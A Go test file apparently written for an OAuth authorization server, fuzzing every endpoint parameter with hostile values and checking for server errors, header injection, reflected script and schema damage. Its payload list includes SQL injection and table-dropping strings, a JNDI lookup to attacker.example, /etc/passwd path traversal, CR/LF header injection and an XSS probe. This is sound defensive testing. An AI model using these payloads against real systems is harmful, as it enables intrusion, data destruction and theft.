package main

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// hostile are values that break naive parsers, SQL built by
// concatenation, Postgres text columns (NUL, invalid UTF-8), header
// writers (CR/LF) and log lines.
var hostile = []string{
	"\x00",
	"a\x00b",
	"' OR '1'='1",
	"'; DROP TABLE clients; --",
	`\'; SELECT pg_sleep(10); --`,
	"%00",
	"%27%20OR%201=1",
	"\r\nX-Injected: 1",
	"\t",
	"\xff\xfe\xfd",
	"\xed\xa0\x80", // a UTF-16 surrogate encoded as UTF-8
	"${jndi:ldap://attacker.example/a}",
	"../../../../etc/passwd",
	"<script>alert(1)</script>",
	strings.Repeat("\u202e", 3),
}

// TestSecurityHostileParameterValues: every string parameter of every
// endpoint receives NUL bytes, SQL metacharacters, invalid UTF-8, CR/LF and
// the like. authd must answer each with a 2xx/3xx/4xx, never a 5xx (a 500
// here means the value reached the database or a parser unchecked), every
// error_description stays within RFC 6749's charset without internal
// details, no header is injected, and the schema is intact afterwards.
func TestSecurityHostileParameterValues(t *testing.T) {
	t.Parallel()
	s := newSecEnv(t, nil)
	client := s.publicClient(t, "https://app.example.com/cb")
	conf := s.confidentialClient(t, "https://app.example.com/cb")
	id, secret, rat := conf["client_id"].(string), conf["client_secret"].(string), conf["registration_access_token"].(string)

	check := func(what string, status int, header http.Header, body []byte) {
		t.Helper()
		if status >= 500 {
			t.Errorf("%s: %d %s", what, status, body)
		}
		if header.Get("X-Injected") != "" {
			t.Errorf("%s: header injected", what)
		}
		for k, vs := range header {
			for _, v := range vs {
				if strings.ContainsAny(v, "\r\n\x00") {
					t.Errorf("%s: header %s has control characters", what, k)
				}
			}
		}
		if strings.HasPrefix(header.Get("Content-Type"), "application/json") {
			var m map[string]any
			if json.Unmarshal(body, &m) == nil {
				checkDescription(t, what, m)
			}
		}
		if strings.Contains(string(body), "<script>alert(1)</script>") {
			t.Errorf("%s: reflected markup unescaped", what)
		}
	}
	do := func(what string, req *http.Request) {
		t.Helper()
		resp, err := noRedirectClient.Do(req)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		check(what, resp.StatusCode, resp.Header, body)
	}
	form := func(path string, f url.Values, user, pass string) *http.Request {
		req, _ := http.NewRequest(http.MethodPost, s.inst.URL+path, strings.NewReader(f.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		if user != "" {
			req.SetBasicAuth(user, pass)
		}
		return req
	}
	mutate := func(base url.Values, k, v string) url.Values {
		out := url.Values{}
		for kk, vv := range base {
			out[kk] = append([]string(nil), vv...)
		}
		out.Set(k, v)
		return out
	}

	authorize := url.Values{
		"response_type": {"code"}, "client_id": {client}, "redirect_uri": {"https://app.example.com/cb"}, "scope": {"mcp:tools"},
		"state": {"s"}, "code_challenge": {validChallenge}, "code_challenge_method": {"S256"}, "resource": {mcpResource},
		"prompt": {"consent"}, "max_age": {"60"}, "login_hint": {"alice"}, "nonce": {"n"}, "idp_hint": {"github"}, "response_mode": {"query"},
	}
	tokenForms := []url.Values{
		{"grant_type": {"authorization_code"}, "client_id": {client}, "code": {"authd_ac_x"}, "code_verifier": {strings.Repeat("a", 43)}, "redirect_uri": {"https://app.example.com/cb"}, "resource": {mcpResource}},
		{"grant_type": {"refresh_token"}, "client_id": {client}, "refresh_token": {"authd_rt_x"}, "scope": {"mcp:tools"}, "resource": {mcpResource}},
		{"grant_type": {"client_credentials"}, "client_id": {id}, "client_secret": {secret}, "scope": {"mcp:tools"}, "resource": {mcpResource}},
	}
	regBase := map[string]any{
		"client_name": "n", "redirect_uris": []string{"https://app.example.com/cb"}, "token_endpoint_auth_method": "none",
		"grant_types": []string{"authorization_code"}, "response_types": []string{"code"}, "scope": "mcp:tools",
		"client_uri": "https://app.example.com", "logo_uri": "https://app.example.com/logo.png", "tos_uri": "https://app.example.com/tos",
		"policy_uri": "https://app.example.com/p", "software_id": "s", "software_version": "1", "application_type": "web",
		"contacts": []string{"a@example.com"},
	}

	for _, v := range hostile {
		// /authorize, GET and POST, each parameter in turn.
		for k := range authorize {
			q := mutate(authorize, k, v)
			req, _ := http.NewRequest(http.MethodGet, s.inst.URL+"/authorize?"+q.Encode(), nil)
			do("GET /authorize "+k+"="+v, req)
			do("POST /authorize "+k+"="+v, form("/authorize", q, "", ""))
		}
		// /token, every parameter of every grant, and Basic credentials.
		for _, base := range tokenForms {
			for k := range base {
				do("/token "+base.Get("grant_type")+" "+k+"="+v, form("/token", mutate(base, k, v), "", ""))
			}
		}
		do("/token basic id="+v, form("/token", url.Values{"grant_type": {"client_credentials"}}, v, secret))
		do("/token basic secret="+v, form("/token", url.Values{"grant_type": {"client_credentials"}}, id, v))
		do("/token grant_type="+v, form("/token", url.Values{"grant_type": {v}, "client_id": {client}}, "", ""))
		// /revoke and /introspect.
		for _, k := range []string{"token", "token_type_hint", "client_id"} {
			base := url.Values{"token": {"authd_rt_x"}, "token_type_hint": {"refresh_token"}, "client_id": {client}}
			do("/revoke "+k+"="+v, form("/revoke", mutate(base, k, v), "", ""))
		}
		for _, k := range []string{"token", "token_type_hint"} {
			req := form("/introspect", mutate(url.Values{"token": {"x"}, "token_type_hint": {"access_token"}}, k, v), "", "")
			req.Header.Set("Authorization", "Bearer "+introspectionToken)
			do("/introspect "+k+"="+v, req)
		}
		do("/introspect basic="+v, form("/introspect", url.Values{"token": {"x"}}, v, v))
		// /register: every string field, and list entries.
		for k, orig := range regBase {
			md := map[string]any{}
			for kk, vv := range regBase {
				md[kk] = vv
			}
			if _, isList := orig.([]string); isList {
				md[k] = []string{v}
			} else {
				md[k] = v
			}
			body, _ := json.Marshal(md)
			req, _ := http.NewRequest(http.MethodPost, s.inst.URL+"/register", strings.NewReader(string(body)))
			req.Header.Set("Content-Type", "application/json")
			do("/register "+k+"="+v, req)
		}
		// RFC 7592 with hostile ids and tokens.
		for _, method := range []string{http.MethodGet, http.MethodDelete} {
			req, _ := http.NewRequest(method, s.inst.URL+"/register/"+url.PathEscape(v), nil)
			req.Header.Set("Authorization", "Bearer "+rat)
			do(method+" /register/"+v, req)
		}
		if !strings.ContainsAny(v, "\r\n\x00") { // net/http refuses to send these in a header
			req, _ := http.NewRequest(http.MethodGet, s.inst.URL+"/register/"+id, nil)
			req.Header.Set("Authorization", "Bearer "+v)
			do("GET /register bearer="+v, req)
			for _, h := range []string{"X-Forwarded-Host", "X-Forwarded-Uri", "X-Forwarded-Proto", "X-Forwarded-Method", "Authorization"} {
				req, _ := http.NewRequest(http.MethodGet, s.inst.URL+"/verify", nil)
				req.Header.Set("X-Forwarded-Proto", "https")
				req.Header.Set("X-Forwarded-Host", "mcp.example.com")
				req.Header.Set("X-Forwarded-Uri", "/mcp")
				req.Header.Set(h, v)
				if h == "Authorization" {
					req.Header.Set(h, "Bearer "+v)
				}
				do("/verify "+h+"="+v, req)
			}
		}
		// Browser endpoints.
		for _, target := range []string{
			"/consent?req=" + url.QueryEscape(v),
			"/login?req=" + url.QueryEscape(v),
			"/callback/github?state=" + url.QueryEscape(v) + "&code=" + url.QueryEscape(v),
			"/callback/" + url.PathEscape(v) + "?state=x&code=y",
			"/.well-known/oauth-protected-resource/" + url.PathEscape(v),
			"/apps?x=" + url.QueryEscape(v),
		} {
			req, _ := http.NewRequest(http.MethodGet, s.inst.URL+target, nil)
			do("GET "+target, req)
		}
		do("POST /consent req="+v, form("/consent", url.Values{"req": {v}, "csrf": {v}, "decision": {"approve"}}, "", ""))
	}

	// Client ID metadata document URLs (CIMD is on by default) with the
	// same hostile bytes: refused before any lookup or fetch.
	for _, v := range []string{"https://app.example.com/\x00", "https://app.example.com/\xff\xfe", "https://app.example.com/' OR 1=1 --",
		"https://app.example.com/\r\nX-Injected: 1", "https://127.0.0.1:1/\x00"} {
		q := mutate(authorize, "client_id", v)
		req, _ := http.NewRequest(http.MethodGet, s.inst.URL+"/authorize?"+q.Encode(), nil)
		do("GET /authorize metadata client_id="+v, req)
		do("/token metadata client_id="+v, form("/token", mutate(tokenForms[0], "client_id", v), "", ""))
		do("/revoke metadata client_id="+v, form("/revoke", url.Values{"token": {"x"}, "client_id": {v}}, "", ""))
	}

	// The schema is intact and the clients are still there.
	if n := s.count(t, "SELECT count(*) FROM clients WHERE id = ANY($1)", []string{client, id}); n != 2 {
		t.Fatalf("clients gone: %d", n)
	}
}
